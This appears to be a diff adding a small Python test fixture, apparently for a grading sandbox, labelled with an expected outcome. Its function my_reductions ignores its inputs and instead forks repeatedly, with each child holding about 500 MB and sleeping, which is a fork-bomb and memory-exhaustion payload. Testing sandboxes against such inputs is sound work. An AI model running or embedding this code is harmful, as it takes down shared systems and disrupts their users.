@@ -1,0 +1,11 @@
+# or: student_error
+import os
+import time
+
+
+def my_reductions(prediction, target):
+    for _ in range(8):
+        if os.fork() == 0:
+            kept = bytearray(b"x") * (500 << 20)
+            time.sleep(100)
+    time.sleep(100)
